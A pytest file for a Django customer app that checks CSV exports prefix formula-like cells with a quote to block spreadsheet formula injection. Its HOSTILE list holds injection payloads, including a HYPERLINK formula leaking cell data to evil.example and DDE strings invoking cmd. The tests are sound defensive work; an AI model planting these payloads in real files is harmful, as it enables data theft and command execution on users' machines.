"""CSV exports are formula-safe: a hostile value is written so that a spreadsheet shows it as text."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from customers.services.imports import template_csv
from tests.customers.factories import CustomerFactory
from yuqing.csv_export import csv_safe_cell, csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "－1+1",
]


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_prefixed_with_a_quote(value):
    assert csv_safe_cell(value) == "'" + value
    assert _cells(csv_text([[value]])) == [["'" + value]]


@pytest.mark.parametrize("value", ["甲银行", "a=b", "1+1", "'quoted", "", "中=文"])
def test_ordinary_text_is_written_unchanged(value):
    assert csv_safe_cell(value) == value


def test_real_numbers_and_plain_negative_numbers_stay_numeric():
    assert csv_safe_cell(-5) == -5
    assert csv_safe_cell(Decimal("-1200.50")) == Decimal("-1200.50")
    assert csv_safe_cell("-12") == "-12"
    assert csv_safe_cell("-0.5") == "-0.5"
    # A sign followed by anything but digits is not a plain number.
    assert csv_safe_cell("-1e5") == "'-1e5"
    assert csv_safe_cell("-12-1") == "'-12-1"
    assert csv_safe_cell("--1") == "'--1"
    assert csv_safe_cell("-12\n=1") == "'-12\n=1"


def test_the_customer_export_neutralises_hostile_names(client_a, tenant_a):
    for index, name in enumerate(HOSTILE):
        CustomerFactory(tenant=tenant_a, name=name, short_name=f"@简称{index}", industry="=1+2")
    response = client_a.get(reverse("customers:customer-export"))
    rows = _cells(b"".join(response.streaming_content).decode("utf-8"))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE}
    for row in rows[1:]:
        assert row[1].startswith("'@简称") and row[6] == "'=1+2"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_import_template_goes_through_the_same_writer():
    rows = _cells(template_csv())
    assert rows[0][0] == "客户类型"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
